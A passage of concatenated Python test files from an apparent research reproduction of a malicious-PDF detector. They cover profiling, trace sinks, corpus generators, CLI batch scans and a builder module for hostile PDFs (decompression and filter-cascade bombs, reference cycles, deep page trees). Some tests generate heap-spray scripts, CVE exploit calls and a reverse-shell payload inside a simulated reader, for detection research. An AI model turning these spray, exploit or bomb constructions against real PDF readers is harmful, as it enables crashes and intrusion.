    def test_merge_accumulates(self):
        clock = FakeClock()
        a, b = JSProfile(clock=clock), JSProfile(clock=clock)

        def method(node, env, this):
            clock.advance(1.0)

        a.dispatch("Node", method, None, None, None)
        b.dispatch("Node", method, None, None, None)
        b.dispatch("Other", method, None, None, None)
        a.merge(b)
        assert a.node_hits == {"Node": 2, "Other": 1}
        assert a.node_self_seconds["Node"] == pytest.approx(2.0)
        # b is untouched.
        assert b.node_hits == {"Node": 1, "Other": 1}


# -- SlowScanBuffer --------------------------------------------------------


class TestSlowScanBuffer:
    def test_fixed_threshold(self):
        buffer = SlowScanBuffer(threshold_seconds=0.5)
        assert buffer.observe("fast.pdf", 0.4) is False
        assert buffer.observe("slow.pdf", 0.6, digest="abc",
                              detail={"queue_wait": 0.1}) is True
        snap = buffer.snapshot()
        assert snap["retained"] == 1 and snap["observed"] == 2
        (entry,) = snap["entries"]
        assert entry["name"] == "slow.pdf"
        assert entry["sha256"] == "abc"
        assert entry["queue_wait"] == 0.1

    def test_rolling_p99_arms_after_min_samples(self):
        buffer = SlowScanBuffer(min_samples=10)
        # Cold buffer: nothing retained, even outliers.
        assert buffer.observe("early-outlier.pdf", 100.0) is False
        for index in range(9):
            assert buffer.observe(f"warm{index}.pdf", 0.01) is False
        # Armed now; p99 of the window is dominated by the early outlier
        # but a fresh outlier beyond it is retained.
        assert buffer.observe("slow.pdf", 200.0) is True
        assert buffer.observe("normal.pdf", 0.01) is False

    def test_ring_capacity_keeps_newest(self):
        buffer = SlowScanBuffer(capacity=2, threshold_seconds=0.0)
        for index in range(4):
            buffer.observe(f"doc{index}.pdf", float(index + 1))
        snap = buffer.snapshot()
        assert [e["name"] for e in snap["entries"]] == ["doc3.pdf", "doc2.pdf"]
        assert snap["retained"] == 4  # retained counts all, ring keeps 2

    def test_clear(self):
        buffer = SlowScanBuffer(threshold_seconds=0.0)
        buffer.observe("a.pdf", 1.0)
        buffer.clear()
        snap = buffer.snapshot()
        assert snap["entries"] == [] and snap["observed"] == 0

    def test_capacity_validated(self):
        with pytest.raises(ValueError):
            SlowScanBuffer(capacity=0)


# -- pipeline integration --------------------------------------------------


class TestPipelineProfiling:
    def test_profiled_scan_attaches_profile(self, js_doc_bytes):
        pipeline = ProtectionPipeline(seed=7, profile=True)
        report = pipeline.scan(js_doc_bytes, "with-js.pdf")
        profile = report.profile
        assert profile is not None and profile.finished
        phases = profile.phase_seconds()
        # Acceptance bound: phase durations sum to within 5% of the
        # total (the stack construction makes them equal exactly).
        assert sum(phases.values()) == pytest.approx(
            profile.total_seconds, rel=0.05
        )
        # The phases a JS-bearing scan must traverse all saw time.
        for name in ("parse", "jsast", "instrument", "js-exec"):
            assert phases[name] > 0.0, name
        assert profile.counters.get("scripts_executed", 0) >= 1
        assert profile.counters.get("js_steps", 0) > 0
        assert profile.js.hotspots(5)  # eval loop attributed node time

    def test_profile_is_in_report_dict(self, js_doc_bytes):
        pipeline = ProtectionPipeline(seed=7, profile=True)
        report = pipeline.scan(js_doc_bytes, "with-js.pdf")
        payload = json.loads(json.dumps(report.to_dict()))
        assert payload["profile"]["total_seconds"] > 0.0
        assert "js-exec" in payload["profile"]["phases"]

    def test_unprofiled_scan_has_no_profile(self, js_doc_bytes):
        pipeline = ProtectionPipeline(seed=7)
        report = pipeline.scan(js_doc_bytes, "with-js.pdf")
        assert report.profile is None
        assert report.to_dict()["profile"] is None

    def test_concurrent_scans_do_not_share_profiles(self, js_doc_bytes):
        import threading

        pipeline = ProtectionPipeline(seed=7, profile=True)
        reports = [None] * 4

        def scan(index):
            reports[index] = pipeline.scan(js_doc_bytes, f"doc{index}.pdf")

        threads = [
            threading.Thread(target=scan, args=(i,)) for i in range(4)
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        profiles = [report.profile for report in reports]
        assert all(profile is not None for profile in profiles)
        assert len({id(profile) for profile in profiles}) == 4
        for profile in profiles:
            assert sum(profile.phase_seconds().values()) == pytest.approx(
                profile.total_seconds, rel=0.05
            )
