"""Sink behaviour: JSONL round-trip, tee fan-out, null overhead gate."""

import json
import threading

from repro.obs import (
    JSONLSink,
    MemorySink,
    NullSink,
    Observability,
    StderrSink,
    TeeSink,
    Tracer,
)
from repro.obs.report import read_trace


class TestNullSink:
    def test_disabled_flag(self):
        assert NullSink().enabled is False
        assert MemorySink().enabled is True

    def test_default_observability_is_disabled(self):
        obs = Observability()
        assert obs.enabled is False
        # Spans still usable (timings are read from them) — just unemitted.
        with obs.tracer.span("x") as sp:
            pass
        assert sp.duration >= 0.0


class TestJSONLRoundTrip:
    def test_all_record_types_survive(self, tmp_path):
        path = tmp_path / "trace.jsonl"
        obs = Observability(JSONLSink(path))
        with obs.tracer.span("pipeline.scan", document="a.pdf"):
            with obs.tracer.span("instrument.parse"):
                pass
            obs.tracer.event("syscall", api="CreateFileA", context="in_js")
        obs.metrics.inc("docs_scanned")
        obs.metrics.observe("malscore", 28, buckets=(10, 50))
        obs.close()

        trace = read_trace(path)
        assert [s["name"] for s in trace["spans"]] == [
            "instrument.parse",
            "pipeline.scan",
        ]
        (event,) = trace["events"]
        assert event["tags"] == {"api": "CreateFileA", "context": "in_js"}
        kinds = sorted(m["kind"] for m in trace["metrics"])
        assert kinds == ["counter", "histogram"]
        assert not trace["other"]

    def test_parent_ids_preserved(self, tmp_path):
        path = tmp_path / "trace.jsonl"
        tracer = Tracer(JSONLSink(path))
        with tracer.span("outer"):
            with tracer.span("inner"):
                pass
        tracer.sink.close()
        trace = read_trace(path)
        by_name = {s["name"]: s for s in trace["spans"]}
        assert by_name["inner"]["parent_id"] == by_name["outer"]["span_id"]

    def test_every_line_is_json_with_type(self, tmp_path):
        path = tmp_path / "trace.jsonl"
        obs = Observability(JSONLSink(path))
        with obs.tracer.span("s"):
            obs.tracer.event("e")
        obs.metrics.inc("c")
        obs.close()
        for line in path.read_text().splitlines():
            record = json.loads(line)
            assert record["type"] in ("span", "event", "metric")

    def test_close_is_idempotent(self, tmp_path):
        sink = JSONLSink(tmp_path / "t.jsonl")
        sink.close()
        sink.close()
        sink.emit_event({"type": "event", "name": "late"})  # silently dropped


class TestJSONLConcurrency:
    def test_eight_thread_hammer_yields_intact_lines(self, tmp_path):
        """Concurrent emitters must never interleave within a line."""
        path = tmp_path / "hammer.jsonl"
        sink = JSONLSink(path)
        workers, per_worker = 8, 200
        errors = []

        def hammer(worker):
            try:
                tracer = Tracer(sink)
                for index in range(per_worker):
                    # Mix record types and sizes so torn writes would show.
                    with tracer.span(f"w{worker}.span", index=index,
                                     pad="x" * (worker * 40)):
                        pass
                    tracer.event(f"w{worker}.event", index=index)
            except Exception as error:  # pragma: no cover
                errors.append(error)

        threads = [
            threading.Thread(target=hammer, args=(w,)) for w in range(workers)
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        sink.close()
        assert not errors

        lines = path.read_text().splitlines()
        assert len(lines) == workers * per_worker * 2
        per_worker_seen = {w: 0 for w in range(workers)}
        for line in lines:
            record = json.loads(line)  # every line parses: no torn writes
            assert record["type"] in ("span", "event")
            worker = int(record["name"].split(".", 1)[0][1:])
            per_worker_seen[worker] += 1
        assert all(
            count == per_worker * 2 for count in per_worker_seen.values()
        )


class TestOtherSinks:
    def test_tee_fans_out(self):
        a, b = MemorySink(), MemorySink()
        tee = TeeSink(a, b)
        tracer = Tracer(tee)
        with tracer.span("x"):
            tracer.event("e")
        assert len(a.spans) == len(b.spans) == 1
        assert len(a.events) == len(b.events) == 1

    def test_tee_enabled_any(self):
        assert TeeSink(NullSink(), MemorySink()).enabled is True
        assert TeeSink(NullSink(), NullSink()).enabled is False

    def test_stderr_sink_writes_lines(self):
        import io

        stream = io.StringIO()
        obs = Observability(StderrSink(stream))
        with obs.tracer.span("x", document="a.pdf"):
            obs.tracer.event("syscall", api="CreateFileA")
        obs.metrics.inc("c")
        obs.close()
        out = stream.getvalue()
        assert "[span]" in out and "[event]" in out and "[metric]" in out

    def test_memory_sink_helpers(self):
        sink = MemorySink()
        tracer = Tracer(sink)
        with tracer.span("a"):
            tracer.event("e1")
        with tracer.span("a"):
            pass
        assert len(sink.spans_named("a")) == 2
        assert len(sink.events_named("e1")) == 1
        sink.clear()
        assert not sink.spans and not sink.events
