"""Tests for the controlled-size document generator (Table X workloads)."""

import pytest

from repro.corpus.sized import (
    TABLE_X_SIZES,
    document_of_size,
    document_with_scripts,
    table_x_documents,
)
from repro.pdf.document import PDFDocument


class TestDocumentOfSize:
    @pytest.mark.parametrize("target", [16 * 1024, 325 * 1024, 1024 * 1024])
    def test_size_within_tolerance(self, target):
        data = document_of_size(target, seed=1)
        assert abs(len(data) - target) / target < 0.05

    def test_small_document_still_valid(self):
        data = document_of_size(2 * 1024, seed=1)
        doc = PDFDocument.from_bytes(data)
        assert doc.page_count == 1

    def test_scripts_attached(self):
        data = document_of_size(64 * 1024, scripts=3, seed=2)
        doc = PDFDocument.from_bytes(data)
        assert len(list(doc.iter_javascript_actions())) == 3

    def test_deterministic(self):
        assert document_of_size(32 * 1024, seed=5) == document_of_size(32 * 1024, seed=5)

    def test_different_seeds_differ(self):
        assert document_of_size(32 * 1024, seed=5) != document_of_size(32 * 1024, seed=6)


class TestTableXDocuments:
    def test_all_six_sizes(self):
        docs = table_x_documents()
        assert [label for label, _d in docs] == [label for label, _s in TABLE_X_SIZES]
        for (label, data), (_l, size) in zip(docs, TABLE_X_SIZES):
            if size > 4096:
                assert abs(len(data) - size) / size < 0.05, label

    def test_all_parse_and_instrument(self):
        from repro.core.instrument import Instrumenter
        from repro.core.keys import KeyStore

        instrumenter = Instrumenter(key_store=KeyStore.create(1), seed=1)
        for label, data in table_x_documents():
            result = instrumenter.instrument(data, f"{label}.pdf")
            assert result.instrumented_scripts >= 1, label


class TestDocumentWithScripts:
    @pytest.mark.parametrize("count", [1, 2, 7, 20])
    def test_script_count(self, count):
        doc = PDFDocument.from_bytes(document_with_scripts(count, seed=1))
        assert len(list(doc.iter_javascript_actions())) == count

    def test_scripts_all_execute(self):
        from repro.reader import Reader

        outcome = Reader().open(document_with_scripts(6, seed=2))
        assert outcome.ok
        assert outcome.handle.executed_scripts == 6
