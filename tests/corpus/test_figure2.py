"""The Figure 2 sample exhibits every property the paper describes."""

import pytest

from repro.core.chains import analyze_chains
from repro.core.static_features import extract_static_features
from repro.corpus.figure2 import figure2_sample
from repro.pdf.document import PDFDocument
from repro.pdf.objects import PDFRef


@pytest.fixture(scope="module")
def sample_bytes():
    return figure2_sample()


@pytest.fixture(scope="module")
def document(sample_bytes):
    return PDFDocument.from_bytes(sample_bytes)


class TestStructure:
    def test_ten_indirect_objects(self, document):
        assert document.object_count() == 10

    def test_hex_escaped_javascript_keyword_survives(self, sample_bytes):
        assert b"/JavaScr#69pt" in sample_bytes
        assert b"/#4a#53" in sample_bytes

    def test_two_javascript_chains(self, document):
        analysis = analyze_chains(document)
        # the real chain (via object 4) and the decoy chain (via 6)
        assert len(analysis.chains) >= 2

    def test_empty_object_terminates_decoy_chain(self, document):
        analysis = analyze_chains(document)
        assert PDFRef(9, 0) in analysis.chain_objects

    def test_all_five_relevant_static_features(self, document):
        features = extract_static_features(document)
        assert features.f1 == 1      # small doc, high chain ratio
        assert features.f3 == 1      # hex keyword on the chain
        assert features.f4 == 1      # empty object on a chain
        assert features.encoding_levels == 1


class TestBehaviour:
    def test_infection_works_unprotected(self, sample_bytes):
        from repro.reader import Reader

        reader = Reader()
        outcome = reader.open(sample_bytes, "figure2.pdf")
        assert outcome.ok
        assert reader.system.filesystem.executables()

    def test_detected_by_pipeline(self, sample_bytes, pipeline):
        report = pipeline.scan(sample_bytes, "figure2.pdf")
        assert report.verdict.malicious
        fired = set(report.verdict.features.fired())
        assert {1, 3, 4} <= fired      # static evidence
        assert {8, 11, 12} <= fired    # runtime evidence

    def test_mdscan_misses_it(self, sample_bytes):
        """The shellcode lives in this.info.title — exactly the sample
        class the paper says extract-and-emulate cannot handle (§II)."""
        from repro.baselines import MDScanDetector
        from repro.corpus.dataset import Sample

        detector = MDScanDetector()
        sample = Sample("fig2.pdf", sample_bytes, "malicious", "figure2")
        assert detector.predict(sample) is False
