"""Unit tests for the synthetic corpus generators."""

from collections import Counter

import pytest

from repro.core.chains import analyze_chains
from repro.core.static_features import extract_static_features
from repro.corpus import CorpusConfig, build_dataset
from repro.corpus.benign import BenignFactory, BenignKind
from repro.corpus.dataset import eval_scale, paper_scale
from repro.corpus.dataset import test_scale as small_scale
from repro.corpus.malicious import (
    MaliciousFactory,
    MaliciousKind,
    KIND_QUOTAS_PER_1000,
)
from repro.pdf.document import PDFDocument


class TestBenignFactory:
    def test_spec_counts(self):
        specs = BenignFactory(seed=1).specs(50, 10)
        assert len(specs) == 50
        assert sum(1 for s in specs if s.has_javascript) == 10

    def test_exactly_one_soap_doc(self):
        specs = BenignFactory(seed=1).specs(80, 20)
        soap = [s for s in specs if s.kind is BenignKind.SOAP_JS]
        assert len(soap) == 1

    def test_with_js_exceeding_n_rejected(self):
        with pytest.raises(ValueError):
            BenignFactory().specs(5, 6)

    def test_documents_parse(self):
        factory = BenignFactory(seed=1)
        for spec in factory.specs(12, 4):
            doc = PDFDocument.from_bytes(factory.build(spec))
            assert doc.page_count >= 1

    def test_deterministic_generation(self):
        f1, f2 = BenignFactory(seed=5), BenignFactory(seed=5)
        specs1, specs2 = f1.specs(10, 3), f2.specs(10, 3)
        assert [s.kind for s in specs1] == [s.kind for s in specs2]
        assert f1.build(specs1[0]) == f2.build(specs2[0])

    def test_benign_ratios_mostly_under_threshold(self):
        factory = BenignFactory(seed=1)
        ratios = []
        for spec in factory.specs(30, 10):
            doc = PDFDocument.from_bytes(factory.build(spec))
            ratios.append(analyze_chains(doc).ratio)
        below = sum(1 for r in ratios if r < 0.2)
        assert below / len(ratios) >= 0.8
        assert max(ratios) <= 0.6

    def test_benign_never_hex_or_empty(self):
        factory = BenignFactory(seed=1)
        for spec in factory.specs(20, 8):
            doc = PDFDocument.from_bytes(factory.build(spec))
            feats = extract_static_features(doc)
            assert feats.f3 == 0
            assert feats.f4 == 0
            assert feats.encoding_levels <= 1


class TestMaliciousFactory:
    def test_spec_count(self):
        assert len(MaliciousFactory(seed=2).specs(40)) == 40

    def test_every_kind_present_at_scale(self):
        specs = MaliciousFactory(seed=2).specs(300)
        kinds = {s.kind for s in specs}
        assert kinds == set(MaliciousKind)

    def test_kind_quotas_scale(self):
        specs = MaliciousFactory(seed=2).specs(1000)
        counts = Counter(s.kind for s in specs)
        for kind, quota in KIND_QUOTAS_PER_1000.items():
            assert abs(counts[kind] - quota) <= 2

    def test_crasher_fn_has_no_static_features(self):
        factory = MaliciousFactory(seed=2)
        specs = [s for s in factory.specs(400) if s.kind is MaliciousKind.CRASHER_FN]
        assert specs
        for spec in specs:
            doc = PDFDocument.from_bytes(factory.build(spec))
            feats = extract_static_features(doc)
            assert feats.binary() == (0, 0, 0, 0, 0)

    def test_documents_parse_and_have_js(self):
        factory = MaliciousFactory(seed=2)
        for spec in factory.specs(25):
            doc = PDFDocument.from_bytes(factory.build(spec))
            assert doc.has_javascript()

    def test_ratio_one_samples_exist(self):
        factory = MaliciousFactory(seed=2)
        specs = factory.specs(400)
        ratio_one = [s for s in specs if s.ratio_one]
        assert ratio_one
        doc = PDFDocument.from_bytes(factory.build(ratio_one[0]))
        assert analyze_chains(doc).ratio == 1.0

    def test_spray_sizes_in_fig7_band(self):
        specs = MaliciousFactory(seed=2).specs(300)
        sprays = [s.spray_mb for s in specs]
        assert min(sprays) >= 103
        assert max(sprays) <= 1700
        mean = sum(sprays) / len(sprays)
        assert 250 <= mean <= 450  # paper: ≈ 336 MB

    def test_deterministic(self):
        a = MaliciousFactory(seed=2)
        b = MaliciousFactory(seed=2)
        sa, sb = a.specs(10), b.specs(10)
        assert [s.cve for s in sa] == [s.cve for s in sb]
        assert a.build(sa[3]) == b.build(sb[3])


class TestDataset:
    def test_build_dataset_sizes(self):
        config = CorpusConfig(n_benign=30, n_benign_with_js=8, n_malicious=20)
        ds = build_dataset(config)
        assert len(ds.benign) == 30
        assert len(ds.malicious) == 20
        assert len(ds.benign_with_js) == 8
        assert len(ds) == 50

    def test_sample_metadata(self, small_dataset):
        for sample in small_dataset.malicious:
            assert sample.malicious
            assert "cve" in sample.meta
        for sample in small_dataset.benign:
            assert not sample.malicious

    def test_scales(self):
        paper = paper_scale()
        assert (paper.n_benign, paper.n_benign_with_js, paper.n_malicious) == (
            18623, 994, 7370,
        )
        ev = eval_scale()
        assert ev.n_malicious == 1000 and ev.n_benign_with_js == 994
        small = small_scale()
        assert small.n_benign < 1000

    def test_streaming_matches_build(self):
        from repro.corpus.dataset import benign_samples, malicious_samples

        config = CorpusConfig(n_benign=10, n_benign_with_js=3, n_malicious=6)
        ds = build_dataset(config)
        streamed_b = list(benign_samples(config))
        streamed_m = list(malicious_samples(config))
        assert [s.data for s in streamed_b] == [s.data for s in ds.benign]
        assert [s.data for s in streamed_m] == [s.data for s in ds.malicious]
