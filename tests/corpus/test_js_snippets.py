"""Direct tests for the corpus JavaScript snippet generators."""

import random

import pytest

from repro.corpus import js_snippets as js
from repro.js import evaluate
from repro.pdf.builder import DocumentBuilder
from repro.reader import Reader
from repro.reader.exploits import CVE
from repro.reader.payload import Payload


def run_in_reader(code: str, **reader_kwargs):
    builder = DocumentBuilder()
    builder.add_page("snippet")
    builder.add_javascript(code)
    reader = Reader(**reader_kwargs)
    outcome = reader.open(builder.to_bytes())
    return reader, outcome.handle


class TestEscapeForJs:
    @pytest.mark.parametrize(
        "text",
        ["plain", 'with "quotes"', "back\\slash", "new\nline", "\r mixed \\\" all"],
    )
    def test_roundtrip_through_engine(self, text):
        assert evaluate('"' + js.escape_for_js(text) + '"') == text


class TestSprayScript:
    def test_sprays_requested_volume(self):
        code = js.spray_script(32, Payload.dropper(), rng=random.Random(1))
        reader, handle = run_in_reader(code)
        assert 30 * 1024 * 1024 <= handle.sprayed_bytes <= 40 * 1024 * 1024

    def test_payload_lands_in_pool(self):
        from repro.reader.payload import parse_payload

        code = js.spray_script(16, Payload.reverse_shell(1234), rng=random.Random(2))
        _reader, handle = run_in_reader(code)
        payload = parse_payload(handle.spray_pool)
        assert payload is not None
        assert payload.ops[0].verb == "shell"

    def test_no_exploit_call_means_no_syscalls(self):
        code = js.spray_script(16, Payload.dropper(), rng=random.Random(3))
        reader, handle = run_in_reader(code)
        assert not reader.gateway.log

    def test_export_chunk_alias(self):
        code = js.spray_script(
            8, Payload.dropper(), rng=random.Random(4), export_chunk_as="__alias"
        )
        assert "var __alias" in code

    def test_title_mode_references_info(self):
        code = js.spray_script(
            8, Payload.dropper(), rng=random.Random(5), hide_payload_in_title=True
        )
        assert "this.info.title" in code
        assert "[[PAYLOAD|" not in code


class TestExploitCalls:
    @pytest.mark.parametrize(
        "cve",
        [CVE.COLLAB_COLLECT_EMAIL_INFO, CVE.UTIL_PRINTF, CVE.COLLAB_GET_ICON,
         CVE.MEDIA_NEW_PLAYER, CVE.PRINT_SEPS],
    )
    def test_every_call_is_valid_js(self, cve):
        call = js.exploit_call_for(cve).replace("__CHUNK__", "'xyz'")
        from repro.js.parser import parse

        parse(call)  # must not raise

    def test_unknown_cve_falls_back(self):
        assert "getIcon" in js.exploit_call_for("CVE-0000-0000")


class TestVersionGating:
    def test_gated_script_inert_on_old_reader(self):
        inner = "app.alert('fired');"
        gated = js.version_gated(inner, min_version=10)
        _reader, handle = run_in_reader(gated)
        assert handle.alerts == []

    def test_gated_script_runs_on_new_reader(self):
        gated = js.version_gated("app.alert('fired');", min_version=9)
        _reader, handle = run_in_reader(gated)
        assert handle.alerts == ["fired"]


class TestFailingProbe:
    @pytest.mark.parametrize("cve", [CVE.GET_ANNOTS, CVE.XFA_2013, "CVE-1999-0001"])
    def test_probe_dies_before_doing_anything(self, cve):
        code = js.failing_probe_script(cve)
        reader, handle = run_in_reader(code)
        assert handle.script_errors
        assert handle.sprayed_bytes == 0
        assert not reader.gateway.log


class TestBenignSnippets:
    def test_report_script_allocates_and_finishes(self):
        code = js.benign_report_script(200, 1024, random.Random(6))
        _reader, handle = run_in_reader(code)
        assert not handle.script_errors
        assert 0 < handle.js_heap_bytes < 4 * 1024 * 1024

    def test_form_and_date_and_page_scripts_clean(self):
        for code in (
            js.benign_form_script(random.Random(7)),
            js.benign_date_script(random.Random(8)),
            js.benign_page_script(),
        ):
            _reader, handle = run_in_reader(code)
            assert not handle.script_errors

    def test_soap_script_generates_one_connection(self):
        reader, handle = run_in_reader(js.benign_soap_script())
        assert not handle.script_errors
        assert len(reader.system.network.connections) == 1
