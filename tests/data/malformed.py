"""Malformed/hostile PDF builders for the resource-limit regression corpus.

Every builder returns raw bytes crafted by hand (not through
``DocumentBuilder`` — the writer would itself recurse over a hostile
page tree).  Sizes are parameters so tests can use tight
:class:`~repro.limits.ScanLimits` against small documents instead of
slow multi-hundred-megabyte ones.
"""

from __future__ import annotations

import zlib
from typing import Callable, Dict, List, Tuple


def _pdf(objects: List[bytes], trailer_extra: bytes = b"/Root 1 0 R") -> bytes:
    """Assemble numbered objects into a minimal, trailer-only PDF."""
    parts = [b"%PDF-1.4\n"]
    for num, body in enumerate(objects, start=1):
        parts.append(b"%d 0 obj\n" % num)
        parts.append(body)
        parts.append(b"\nendobj\n")
    parts.append(b"trailer\n<< ")
    parts.append(trailer_extra)
    parts.append(b" >>\n%%EOF\n")
    return b"".join(parts)


def _catalog_and_pages() -> List[bytes]:
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [] /Count 0 >>",
    ]


def _stream_obj(dict_body: bytes, payload: bytes) -> bytes:
    return (
        b"<< "
        + dict_body
        + b" /Length %d >>\nstream\n" % len(payload)
        + payload
        + b"\nendstream"
    )


def decompression_bomb(inflated_size: int = 8 * 1024 * 1024) -> bytes:
    """A tiny Flate stream that inflates to ``inflated_size`` bytes."""
    payload = zlib.compress(b"\x00" * inflated_size, 9)
    objects = _catalog_and_pages()
    objects.append(_stream_obj(b"/Filter /FlateDecode", payload))
    return _pdf(objects)


def filter_cascade_bomb(depth: int = 64) -> bytes:
    """A stream declaring ``depth`` stacked FlateDecode filters.

    The payload really is Flate-encoded ``depth`` times, so without a
    cascade-depth budget the decoder would peel every layer.
    """
    payload = b"hello hostile world"
    for _ in range(depth):
        payload = zlib.compress(payload)
    filters = b"[" + b" ".join([b"/FlateDecode"] * depth) + b"]"
    objects = _catalog_and_pages()
    objects.append(_stream_obj(b"/Filter " + filters, payload))
    return _pdf(objects)


def cyclic_reference() -> bytes:
    """A catalog whose ``/Pages`` chain is a two-object reference cycle."""
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"3 0 R",  # 2 0 obj -> 3 0 obj
            b"2 0 R",  # 3 0 obj -> 2 0 obj: never resolves
        ]
    )


def huge_xref_count(claimed: int = 2_000_000_000) -> bytes:
    """A classic xref whose subsection claims ``claimed`` entries.

    The file itself holds only two real entries; without the clamp the
    tokenizer would chew ``claimed * 20`` nonexistent bytes.
    """
    body = [b"%PDF-1.4\n"]
    offsets = []
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [] /Count 0 >>",
    ]
    for num, obj in enumerate(objects, start=1):
        offsets.append(sum(len(p) for p in body))
        body.append(b"%d 0 obj\n" % num)
        body.append(obj)
        body.append(b"\nendobj\n")
    xref_at = sum(len(p) for p in body)
    body.append(b"xref\n0 %d\n" % claimed)
    body.append(b"0000000000 65535 f \n")
    for offset in offsets:
        body.append(b"%010d 00000 n \n" % offset)
    body.append(b"trailer\n<< /Root 1 0 R /Size %d >>\n" % claimed)
    body.append(b"startxref\n%d\n%%%%EOF\n" % xref_at)
    return b"".join(body)


def deep_page_tree(depth: int = 2000) -> bytes:
    """A page tree of ``depth`` *inline* nested ``/Kids`` dictionaries.

    Inline nesting defeats cycle detection (no refs to remember) and,
    unbounded, blows Python's recursion limit around ~450 levels.
    """
    node = b"<< /Type /Page >>"
    for _ in range(depth):
        node = b"<< /Type /Pages /Kids [" + node + b"] >>"
    return _pdf([b"<< /Type /Catalog /Pages 2 0 R >>", node])


def truncated_stream(inflated_size: int = 4096, keep: int = 40) -> bytes:
    """A Flate stream whose encoded data is cut off after ``keep`` bytes."""
    payload = zlib.compress(b"A" * inflated_size)[:keep]
    objects = _catalog_and_pages()
    objects.append(_stream_obj(b"/Filter /FlateDecode", payload))
    return _pdf(objects)


def junk_numbers() -> bytes:
    """An object whose array holds malformed numbers (``2-3``, bare ``+``).

    A strict lexer raises mid-array and the recovery parser drops the
    whole object — exactly the malformed-syntax evasion the tolerant
    number path exists to defeat.  Expected parse: ``[2 -3 1]`` plus
    tolerance warnings.
    """
    objects = _catalog_and_pages()
    objects.append(b"<< /V [2-3 + 1] /S (payload) >>")
    return _pdf(objects)


def bad_hex_digits() -> bytes:
    """A hex string containing non-hex bytes (``<48G45ZZ4C>``).

    Real readers skip the junk bytes; a lexer that raises on the first
    one loses the enclosing object.  Expected string value: ``HEL``.
    """
    objects = _catalog_and_pages()
    objects.append(b"<< /S <48G45ZZ4C> >>")
    return _pdf(objects)


def partial_xref_hidden_object() -> bytes:
    """A valid xref that deliberately omits one object in the file.

    xref-faithful readers never see object 3; only the recovery scan
    finds it, so ``used_recovery_scan`` must be set even though the
    xref itself parsed fine.
    """
    body = [b"%PDF-1.4\n"]
    offsets = []
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [] /Count 0 >>",
        b"<< /Hidden (payload) >>",
    ]
    for num, obj in enumerate(objects, start=1):
        offsets.append(sum(len(p) for p in body))
        body.append(b"%d 0 obj\n" % num)
        body.append(obj)
        body.append(b"\nendobj\n")
    xref_at = sum(len(p) for p in body)
    body.append(b"xref\n0 3\n")
    body.append(b"0000000000 65535 f \n")
    for offset in offsets[:2]:  # object 3 left out on purpose
        body.append(b"%010d 00000 n \n" % offset)
    body.append(b"trailer\n<< /Root 1 0 R /Size 3 >>\n")
    body.append(b"startxref\n%d\n%%%%EOF\n" % xref_at)
    return b"".join(body)


def object_flood(count: int = 3000) -> bytes:
    """``count`` trivial indirect objects (object-count budget fodder)."""
    objects = _catalog_and_pages()
    objects.extend(b"<< /I %d >>" % i for i in range(count))
    return _pdf(objects)


#: name -> builder with scaled-down default sizes suitable for tests.
BUILDERS: Dict[str, Callable[[], bytes]] = {
    "decompression_bomb": lambda: decompression_bomb(2 * 1024 * 1024),
    "filter_cascade_bomb": lambda: filter_cascade_bomb(64),
    "cyclic_reference": cyclic_reference,
    "huge_xref_count": lambda: huge_xref_count(50_000_000),
    "deep_page_tree": lambda: deep_page_tree(2000),
    "truncated_stream": truncated_stream,
    "object_flood": lambda: object_flood(3000),
    "junk_numbers": junk_numbers,
    "bad_hex_digits": bad_hex_digits,
    "partial_xref_hidden_object": partial_xref_hidden_object,
}


def corpus() -> List[Tuple[str, bytes]]:
    """The full regression corpus as ``(name, bytes)`` pairs."""
    return [(name, build()) for name, build in BUILDERS.items()]
