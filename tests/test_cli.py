"""Tests for the command-line interface."""

import json

import pytest

from repro.cli import main
from repro.pdf.document import PDFDocument


@pytest.fixture()
def benign_file(tmp_path, js_doc_bytes):
    path = tmp_path / "benign.pdf"
    path.write_bytes(js_doc_bytes)
    return path


@pytest.fixture()
def malicious_file(tmp_path, malicious_doc_bytes):
    path = tmp_path / "mal.pdf"
    path.write_bytes(malicious_doc_bytes)
    return path


@pytest.mark.batch
class TestBatch:
    @pytest.fixture()
    def corpus_dir(self, tmp_path, js_doc_bytes, malicious_doc_bytes, simple_doc_bytes):
        root = tmp_path / "corpus"
        root.mkdir()
        (root / "benign.pdf").write_bytes(js_doc_bytes)
        (root / "plain.pdf").write_bytes(simple_doc_bytes)
        (root / "mal.pdf").write_bytes(malicious_doc_bytes)
        (root / "mal-copy.pdf").write_bytes(malicious_doc_bytes)
        return root

    def test_batch_scans_directory(self, corpus_dir, capsys):
        code = main(["batch", str(corpus_dir), "--jobs", "2",
                     "--backend", "thread"])
        out = capsys.readouterr().out
        assert code == 1  # malicious present
        assert "scanned 4 document(s)" in out
        assert "malicious : 2" in out
        assert "1 hit(s)" in out  # mal-copy answered from cache

    def test_batch_json_report(self, corpus_dir, tmp_path, capsys):
        out_path = tmp_path / "report.json"
        main(["batch", str(corpus_dir), "--jobs", "2", "--backend", "thread",
              "--json", str(out_path)])
        capsys.readouterr()
        payload = json.loads(out_path.read_text())
        assert payload["total"] == 4
        assert payload["counts"]["malicious"] == 2
        assert payload["cache"]["hits"] == 1

    def test_batch_persistent_cache(self, corpus_dir, tmp_path, capsys):
        cache = tmp_path / "verdicts.json"
        main(["batch", str(corpus_dir), "--jobs", "1", "--backend", "thread",
              "--cache", str(cache)])
        capsys.readouterr()
        assert cache.exists()
        main(["batch", str(corpus_dir), "--jobs", "1", "--backend", "thread",
              "--cache", str(cache)])
        out = capsys.readouterr().out
        assert "0 scan(s) executed" in out
        assert "100% hit rate" in out

    def test_batch_no_cache(self, corpus_dir, capsys):
        main(["batch", str(corpus_dir), "--jobs", "1", "--backend", "thread",
              "--no-cache"])
        out = capsys.readouterr().out
        assert "4 scan(s) executed" in out

    def test_batch_benign_only_exit_zero(self, tmp_path, js_doc_bytes, capsys):
        (tmp_path / "ok.pdf").write_bytes(js_doc_bytes)
        assert main(["batch", str(tmp_path), "--jobs", "1",
                     "--backend", "thread"]) == 0

    def test_batch_missing_dir_exit_two(self, tmp_path, capsys):
        assert main(["batch", str(tmp_path / "absent"), "--jobs", "1"]) == 2
        assert "error" in capsys.readouterr().err

    def test_batch_empty_dir_exit_two(self, tmp_path, capsys):
